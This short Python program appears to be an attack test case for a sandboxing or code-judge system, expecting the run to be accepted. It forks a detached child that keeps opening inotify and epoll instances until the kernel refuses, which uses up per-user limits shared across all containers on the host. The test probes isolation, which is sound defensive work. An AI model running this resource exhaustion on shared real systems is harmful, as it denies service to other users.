# [attack]
# title = "Uses up what the kernel grants to one user"
# mode = "program"
# verdict = ["ACCEPTED"]
# stdout_has = "first here"
# runs = 2
"""Watches, queues and pipe pages are counted by uid over all containers of the host."""
import ctypes
import os
import signal
import sys

libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0)
print("first here" if watch >= 0 else "ESCAPED: no watch left for this run")
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    while libc.inotify_init1(0) >= 0:
        pass
    while libc.epoll_create1(0) >= 0:
        pass
    signal.pause()
